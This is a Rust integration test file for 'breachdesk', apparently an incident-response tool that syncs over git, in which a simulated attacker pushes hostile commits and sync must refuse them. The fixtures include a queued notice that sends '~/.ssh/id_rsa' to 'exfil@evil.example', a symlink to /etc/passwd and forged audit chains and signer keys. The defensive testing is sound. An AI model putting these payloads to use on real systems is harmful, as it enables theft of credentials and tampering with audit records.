//! The incoming-change gate, end to end: a team's bare remote on disk, an
//! honest victim (Alice) and teammate (Bob) running the real binary, and
//! an attacker (Mallory) who is a plain `git` clone of the remote and
//! pushes whatever she likes. Every attack is refused by `sync` in one line
//! naming the commit, its author and the path, and nothing changes on the
//! victim's machine: HEAD, the records, the audit trail, the outbox, the
//! reminders, the machine id and the ignore list are byte for byte as
//! before, and `list` still shows the records.

#[path = "support/smtp_server.rs"]
mod smtp_server;
#[path = "support/team.rs"]
mod team;

use std::path::{Path, PathBuf};
use team::{Responder, git_in};

const ALICE: &str = "[responder]\nname = \"Alice Able\"\nemail = \"alice@provider.example\"\n";
const BOB: &str = "[responder]\nname = \"Bob Baker\"\nemail = \"bob@provider.example\"\n";
const MALLORY: &str = "Mallory <mallory@evil.example>";

/// A team: the bare remote, Alice (the victim) and Bob (an honest
/// teammate) with two incidents both have, each machine's chain on the
/// remote, and Mallory's plain clone of it.
struct Team {
    _root: tempfile::TempDir,
    remote: PathBuf,
    alice: Responder,
    bob: Responder,
    mallory: PathBuf,
    incidents: Vec<String>,
}

fn team() -> Team {
    team_with(ALICE)
}

/// A team whose victim has `alice_config`.
fn team_with(alice_config: &str) -> Team {
    let root = tempfile::tempdir().expect("temp dir");
    let remote = root.path().join("team.git");
    git_in(
        root.path(),
        &[
            "init",
            "--quiet",
            "--bare",
            "--initial-branch",
            "main",
            remote.to_str().expect("utf-8"),
        ],
    );
    let url = remote.to_str().expect("utf-8");
    let alice = Responder::new(root.path(), "alice", alice_config);
    let bob = Responder::new(root.path(), "bob", BOB);
    let incidents = vec![
        alice.new_incident("Admin portal login from unknown IP"),
        alice.new_incident("Phishing wave"),
    ];
    alice.ok(&["sync", "init", url]);
    bob.ok(&["sync", "init", url]);
    bob.ok(&["log", &incidents[0], "Bob isolated web-03"]);
    bob.ok(&["sync"]);
    alice.ok(&["log", &incidents[1], "Alice called the Client"]);
    alice.ok(&["sync"]);
    let mallory = root.path().join("mallory");
    git_in(
        root.path(),
        &[
            "clone",
            "--quiet",
            "--branch",
            "main",
            url,
            mallory.to_str().expect("utf-8"),
        ],
    );
    Team {
        remote,
        alice,
        bob,
        mallory,
        incidents,
        _root: root,
    }
}

impl Team {
    /// Mallory commits everything she staged and pushes; the commit's id.
    fn push(&self, message: &str) -> String {
        git_in(
            &self.mallory,
            &["commit", "--quiet", "--allow-empty", "-m", message],
        );
        git_in(&self.mallory, &["push", "--quiet", "origin", "HEAD:main"]);
        git_in(&self.mallory, &["rev-parse", "HEAD"])
            .trim()
            .to_string()
    }

    fn write(&self, path: &str, bytes: &[u8]) {
        let path = self.mallory.join(path);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("dirs");
        std::fs::write(path, bytes).expect("write");
    }

    fn chain_of(&self, who: &Responder) -> String {
        format!("audit/chains/{}.jsonl", who.machine_id())
    }

    /// Alice's sync refuses `commit` in one line naming it, Mallory and
    /// `path`, and nothing changed on her machine.
    fn refused(&self, commit: &str, path: &str) -> String {
        let alice = &self.alice;
        let head = alice.git(&["rev-parse", "HEAD"]);
        let before = alice.snapshot();
        let ids = alice.ids();
        let err = alice.fails(&["sync"]);
        assert_eq!(err.lines().count(), 1, "{err}");
        let expected = format!(
            "breachdesk: error: refused commit {} by {MALLORY}: {path} ",
            &commit[..12]
        );
        assert!(err.starts_with(&expected), "{err}\nexpected: {expected}");
        assert!(err.trim_end().ends_with("; nothing was merged"), "{err}");
        assert_eq!(alice.git(&["rev-parse", "HEAD"]), head, "HEAD moved");
        assert!(!alice.data.join(".git/MERGE_HEAD").exists());
        let after = alice.snapshot();
        for (name, bytes) in &before {
            assert_eq!(after.get(name), Some(bytes), "{name} changed");
        }
        for name in after.keys() {
            assert!(before.contains_key(name), "{name} appeared");
        }
        assert_eq!(alice.git(&["status", "--porcelain"]), "");
        assert_eq!(alice.ids(), ids);
        assert!(ids.len() >= 2);
        // The console's header has it too.
        let state = std::fs::read_to_string(alice.data.join("sync-state.json")).expect("state");
        assert!(state.contains(&commit[..12]), "{state}");
        // And the next sync refuses again: nothing was half taken.
        let again = alice.fails(&["sync"]);
        assert_eq!(again, err);
        err
    }
}

#[test]
fn machine_local_files_from_the_remote_are_refused() {
    let cases: [(&str, &[u8]); 4] = [
        (
            "reminders/outbox/R-1.toml",
            b"to = \"exfil@evil.example\"\nattach = \"~/.ssh/id_rsa\"\n",
        ),
        ("reminders.json", b"{\"done\":[\"everything\"]}\n"),
        ("machine-id", b"00000000000000bb\n"),
        ("index.json", b"{}\n"),
    ];
    for (path, bytes) in cases {
        let team = team();
        if path == "machine-id" {
            // A teammate's id, to make the victim append to their chain.
            team.write(path, format!("{}\n", team.bob.machine_id()).as_bytes());
        } else {
            team.write(path, bytes);
        }
        git_in(&team.mallory, &["add", "--force", "--", path]);
        let commit = team.push("helpful change");
        let err = team.refused(&commit, path);
        assert!(
            err.contains(
                "is machine-local (only incidents/, audit/chains/ and audit/signers/ may change)"
            ),
            "{err}"
        );
    }
}

#[test]
fn a_committed_locks_symlink_is_refused_and_the_desk_still_works() {
    let team = team();
    std::os::unix::fs::symlink("/nonexistent", team.mallory.join("locks")).expect("link");
    git_in(&team.mallory, &["add", "--force", "locks"]);
    let commit = team.push("locks");
    let err = team.refused(&commit, "locks");
    assert!(err.contains("is a symbolic link"), "{err}");
    // `log` still saves, and the sync after Mallory's commit is undone goes on.
    team.alice.ok(&["log", &team.incidents[0], "Still working"]);
}

#[test]
fn the_ignore_list_and_attributes_are_only_ever_what_breachdesk_writes() {
    for (path, bytes) in [
        (".gitignore", String::new()),
        (
            ".gitattributes",
            format!("{}* text eol=crlf\n", breachdesk::sync::GITATTRIBUTES),
        ),
        (
            ".gitattributes",
            breachdesk::sync::GITATTRIBUTES.replace("merge=breachdesk-record", "merge=union"),
        ),
    ] {
        let team = team();
        team.write(path, bytes.as_bytes());
        git_in(&team.mallory, &["add", path]);
        let commit = team.push("tidy");
        let err = team.refused(&commit, path);
        assert!(
            err.contains("is not exactly what breachdesk writes there"),
            "{err}"
        );
    }
}

#[test]
fn deleting_a_record_or_the_audit_trail_is_refused() {
    let team = team();
    let record = format!("incidents/{}.toml", team.incidents[0]);
    git_in(&team.mallory, &["rm", "--quiet", &record]);
    let commit = team.push("cleanup");
    let err = team.refused(&commit, &record);
    assert!(err.contains("deletes the record of"), "{err}");

    let team = self::team();
    git_in(&team.mallory, &["rm", "-r", "--quiet", "audit"]);
    std::os::unix::fs::symlink("/tmp", team.mallory.join("audit")).expect("link");
    git_in(&team.mallory, &["add", "audit"]);
    let commit = team.push("no more audit");
    let err = team.refused(&commit, "audit");
    assert!(err.contains("is a symbolic link"), "{err}");
}

#[test]
fn the_victims_own_chain_cannot_be_rewritten() {
    let team = team();
    let chain = team.chain_of(&team.alice);
    let text = std::fs::read_to_string(team.mallory.join(&chain)).expect("alice's chain");
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines.len() >= 3, "{text}");
    // Two entries removed, the rest kept (as if rehashed).
    let kept: String = lines[2..].iter().map(|l| format!("{l}\n")).collect();
    team.write(&chain, kept.as_bytes());
    git_in(&team.mallory, &["add", &chain]);
    let commit = team.push("rehash");
    let err = team.refused(&commit, &chain);
    assert!(
        err.contains("changes this machine's own audit chain"),
        "{err}"
    );

    // A pure append to the victim's chain is refused too: only it writes it.
    let team = self::team();
    let chain = team.chain_of(&team.alice);
    let mut text = std::fs::read(team.mallory.join(&chain)).expect("chain");
    text.extend_from_slice(b"{\"actor\":\"Alex Oncall\"}\n");
    team.write(&chain, &text);
    git_in(&team.mallory, &["add", &chain]);
    let commit = team.push("append");
    team.refused(&commit, &chain);
}

#[test]
fn a_teammates_chain_only_grows() {
    let team = team();
    let chain = team.chain_of(&team.bob);
    let text = std::fs::read_to_string(team.mallory.join(&chain)).expect("bob's chain");
    let changed = text.replacen("Bob Baker", "Alex Oncall", 1);
    assert_ne!(changed, text);
    team.write(&chain, changed.as_bytes());
    git_in(&team.mallory, &["add", &chain]);
    let commit = team.push("fix actor");
    let err = team.refused(&commit, &chain);
    assert!(err.contains("is not a pure append to machine"), "{err}");
}

#[test]
fn a_chain_whose_entries_no_key_signed_is_refused() {
    let team = team();
    // Mallory's own breachdesk writes a genuine, well-hashed chain as
    // "Alex Oncall"; she commits it as a new machine's chain without the
    // signer key that would let anyone check it.
    let scratch = Responder::new(
        team.mallory.parent().expect("root"),
        "scratch",
        "[responder]\nname = \"Alex Oncall\"\nemail = \"alex@provider.example\"\n",
    );
    scratch.new_incident("Nothing happened");
    let forged = std::fs::read(
        scratch
            .data
            .join("audit/chains")
            .join(format!("{}.jsonl", scratch.machine_id())),
    )
    .expect("scratch chain");
    let chain = "audit/chains/00000000000000aa.jsonl";
    team.write(chain, &forged);
    git_in(&team.mallory, &["add", chain]);
    let commit = team.push("alex's history");
    let err = team.refused(&commit, chain);
    assert!(err.contains("has no signer key"), "{err}");
}

#[test]
fn a_signer_key_is_never_replaced() {
    let team = team();
    // A new machine's key arrives once (an addition: taken).
    let newcomer = "audit/signers/0123456789abcdef.pub";
    team.write(
        newcomer,
        b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINew Carol Newcomer\n",
    );
    git_in(&team.mallory, &["add", newcomer]);
    team.push("carol's key");
    team.alice.ok(&["sync"]);
    assert!(team.alice.data.join(newcomer).exists());
    // Bob's key, which every sync of his has published, is never replaced.
    let key = format!("audit/signers/{}.pub", team.bob.machine_id());
    assert!(team.alice.data.join(&key).exists(), "bob's key came in");
    team.write(
        &key,
        b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMal Bob Baker\n",
    );
    git_in(&team.mallory, &["add", &key]);
    let commit = team.push("rotate bob's key");
    let err = team.refused(&commit, &key);
    assert!(err.contains("replaces machine"), "{err}");
}

#[test]
fn a_submodule_and_a_mode_change_are_refused() {
    let team = team();
    let head = git_in(&team.mallory, &["rev-parse", "HEAD"]);
    git_in(
        &team.mallory,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            &format!("160000,{},vendor", head.trim()),
        ],
    );
    let commit = team.push("vendor");
    let err = team.refused(&commit, "vendor");
    assert!(err.contains("is a submodule"), "{err}");

    let team = self::team();
    let record = format!("incidents/{}.toml", team.incidents[1]);
    git_in(&team.mallory, &["update-index", "--chmod=+x", &record]);
    let commit = team.push("exec");
    let err = team.refused(&commit, &record);
    assert!(err.contains("has mode 100755"), "{err}");
}

#[test]
fn joining_a_team_whose_remote_holds_a_machine_local_file_checks_nothing_out() {
    let team = team();
    team.write(
        "outbox/N-20261128-143201-7f3a9c.toml",
        b"to = \"exfil@evil.example\"\n",
    );
    git_in(&team.mallory, &["add", "--force", "outbox"]);
    let commit = team.push("outbox");
    let carol = Responder::new(team.remote.parent().expect("root"), "carol", BOB);
    let err = carol.fails(&["sync", "init", team.remote.to_str().expect("utf-8")]);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(
        err.contains(&format!(
            "refused commit {} by {MALLORY}: outbox/N-20261128-143201-7f3a9c.toml is machine-local",
            &commit[..12]
        )),
        "{err}"
    );
    assert!(!carol.data.join(".git").exists());
    assert!(!carol.data.join("outbox").exists());
    assert!(
        !carol
            .data
            .join("incidents")
            .join(format!("{}.toml", team.incidents[0]))
            .exists()
    );
}

#[test]
fn an_emptied_gitignore_never_sends_machine_local_files_and_sync_writes_it_again() {
    let team = team();
    let alice = &team.alice;
    std::fs::write(alice.data.join(".gitignore"), "").expect("emptied");
    std::fs::write(alice.data.join(".gitattributes"), "* merge=union\n").expect("changed");
    alice.git(&[
        "config",
        "--local",
        "--unset",
        "merge.breachdesk-record.driver",
    ]);
    std::fs::create_dir_all(alice.data.join("logs")).expect("logs");
    std::fs::write(alice.data.join("logs/breachdesk.log"), "secret\n").expect("log");
    std::fs::create_dir_all(alice.data.join("outbox")).expect("outbox");
    std::fs::write(
        alice.data.join("outbox/N-1.toml"),
        "to = \"csr@client.example\"\n",
    )
    .expect("outbox");
    // Nor a link in place of a record.
    std::os::unix::fs::symlink("/etc/passwd", alice.data.join("incidents/LINKED-1.toml"))
        .expect("link");
    alice.ok(&["log", &team.incidents[0], "After the ignore list went"]);
    alice.ok(&["sync"]);
    let tree = git_in(&team.remote, &["ls-tree", "-r", "--name-only", "main"]);
    for path in tree.lines() {
        assert!(
            path == ".gitattributes"
                || path == ".gitignore"
                || path.starts_with("incidents/")
                || path.starts_with("audit/chains/")
                || path.starts_with("audit/signers/"),
            "{path} went to the remote:\n{tree}"
        );
    }
    assert!(tree.contains(&format!("incidents/{}.toml", team.incidents[0])));
    assert!(!tree.contains("LINKED-1"), "{tree}");
    // The ignore list is written again and committed as it should be.
    assert_eq!(
        std::fs::read_to_string(alice.data.join(".gitignore")).expect("ignore"),
        breachdesk::sync::GITIGNORE
    );
    assert_eq!(
        git_in(&team.remote, &["show", "main:.gitignore"]),
        breachdesk::sync::GITIGNORE
    );
    assert_eq!(
        git_in(&team.remote, &["show", "main:.gitattributes"]),
        breachdesk::sync::GITATTRIBUTES
    );
    let driver = alice.git(&["config", "--local", "merge.breachdesk-record.driver"]);
    assert!(
        driver.trim_end().ends_with(" merge-record %O %A %B %P"),
        "{driver}"
    );
    team.bob.ok(&["sync"]);

    // A machine-local file staged by hand is refused, naming it.
    alice.git(&["add", "--force", "machine-id"]);
    let err = alice.fails(&["sync"]);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(
        err.contains("machine-id is staged but is machine-local"),
        "{err}"
    );
    let tree = git_in(&team.remote, &["ls-tree", "-r", "--name-only", "main"]);
    assert!(!tree.contains("machine-id"), "{tree}");
}

#[test]
fn a_record_quarantined_here_is_never_deleted_for_the_team() {
    let team = team();
    let (alice, bob) = (&team.alice, &team.bob);
    let id = &team.incidents[1];
    let record = format!("incidents/{id}.toml");
    // Bob's copy becomes one his breachdesk cannot read (a field it does
    // not know), and `quarantine sweep` moves it aside.
    let path = bob.data.join(&record);
    let text = std::fs::read_to_string(&path).expect("record");
    std::fs::write(&path, format!("{text}future_field = 1\n")).expect("newer");
    let swept = bob.ok(&["quarantine", "sweep"]);
    assert!(swept.contains(id.as_str()), "{swept}");
    assert!(!path.exists());
    bob.ok(&["sync"]);
    let tree = git_in(&team.remote, &["ls-tree", "-r", "--name-only", "main"]);
    assert!(tree.contains(&record), "the team lost {record}:\n{tree}");
    // Nor does Bob's console count it as a change waiting to go out.
    let desk = breachdesk::setup::Setup {
        data_dir: bob.data.clone(),
        config: breachdesk::config::Config::load(&bob.config).expect("config"),
        config_path: bob.config.clone(),
        extra_playbooks: Vec::new(),
    }
    .desk()
    .expect("desk");
    assert_eq!(desk.sync_status().and_then(|s| s.waiting), Some(0));
    alice.ok(&["sync"]);
    assert!(alice.data.join(&record).exists());
    assert!(alice.ids().contains(id));
}

/// The `[smtp]` section for a loopback server on `port` trusting `ca`, and
/// the contacts a notice goes to.
fn mail_config(responder: &str, port: u16, ca: &Path) -> String {
    format!(
        "{responder}role = \"service-provider\"\n[contacts]\nother_party = \"Client Security Representative <csr@client.example>\"\n[smtp]\nhost = \"127.0.0.1\"\nport = {port}\nsecurity = \"starttls\"\nca_file = \"{}\"\ntimeout_secs = 5\n",
        ca.display()
    )
}

/// A notice committed into `outbox/` (a real one, made by Mallory's own
/// breachdesk while her server was down, then pointed at her address) is
/// refused; the victim's outbox retry and `watch --once` afterwards send
/// nothing: the loopback server sees no connection at all.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_committed_outbox_notice_is_refused_and_nothing_is_sent() {
    let pki = smtp_server::pki();
    let server = smtp_server::TestServer::start(smtp_server::Options {
        tls: Some(pki.server_config.clone()),
        starttls: true,
        ..smtp_server::Options::default()
    })
    .await;
    let keys = tempfile::tempdir().expect("temp dir");
    let ca = keys.path().join("ca.pem");
    std::fs::write(&ca, &pki.ca_pem).expect("ca");
    let team = tokio::task::block_in_place(|| team_with(&mail_config(ALICE, server.port(), &ca)));

    // Mallory's own breachdesk, with no server: her notice waits in her outbox.
    let down = smtp_server::reserve_port();
    let mallory = Responder::new(
        team.mallory.parent().expect("root"),
        "mallory-desk",
        &mail_config(
            "[responder]\nname = \"Mallory\"\nemail = \"mallory@evil.example\"\n",
            down.port(),
            &ca,
        ),
    );
    let (notice_name, notice) = tokio::task::block_in_place(|| {
        let id = mallory.new_incident("Bait");
        let out = mallory.run(&["update", &id, "--message", "Evidence attached", "--yes"]);
        assert!(!out.status.success());
        let entry = std::fs::read_dir(mallory.data.join("outbox"))
            .expect("outbox")
            .flatten()
            .find(|e| e.file_name().to_string_lossy().ends_with(".toml"))
            .expect("a queued notice");
        let text = std::fs::read_to_string(entry.path()).expect("notice");
        assert!(text.contains("csr@client.example"), "{text}");
        (
            entry.file_name().to_string_lossy().into_owned(),
            text.replace("csr@client.example", "exfil@evil.example")
                .replace(&id, &team.incidents[0]),
        )
    });
    let path = format!("outbox/{notice_name}");
    team.write(&path, notice.as_bytes());
    git_in(&team.mallory, &["add", "--force", "--", &path]);
    let commit = team.push("queued notice");
    tokio::task::block_in_place(|| {
        let err = team.refused(&commit, &path);
        assert!(err.contains("is machine-local"), "{err}");
        assert!(!team.alice.data.join(&path).exists());
        team.alice.ok(&["outbox", "retry"]);
        team.alice.ok(&["watch", "--once"]);
    });
    assert_eq!(server.connections(), 0, "{:?}", server.commands());
    assert!(server.messages().is_empty());
}

/// A chain whose last entry was torn by a crash is not committed (the
/// team's history would keep the torn bytes and every teammate refuse
/// them); `audit repair` sets the tail aside and the next sync sends it.
#[test]
fn a_torn_chain_is_never_committed() {
    let team = team();
    let alice = &team.alice;
    alice.ok(&["log", &team.incidents[0], "Before the crash"]);
    let chain = alice.data.join(team.chain_of(alice));
    let mut bytes = std::fs::read(&chain).expect("chain");
    bytes.extend_from_slice(b"{\"seq\":99,\"act");
    std::fs::write(&chain, &bytes).expect("torn");
    let remote_head = git_in(&team.remote, &["rev-parse", "main"]);
    let err = alice.fails(&["sync"]);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains("ends in a torn audit entry"), "{err}");
    assert!(err.contains(&team.chain_of(alice)), "{err}");
    assert_eq!(git_in(&team.remote, &["rev-parse", "main"]), remote_head);
    alice.ok(&["audit", "repair"]);
    alice.ok(&["sync"]);
    team.bob.ok(&["sync"]);
    assert!(
        team.bob
            .ok(&["show", &team.incidents[0]])
            .contains("Before the crash")
    );
}
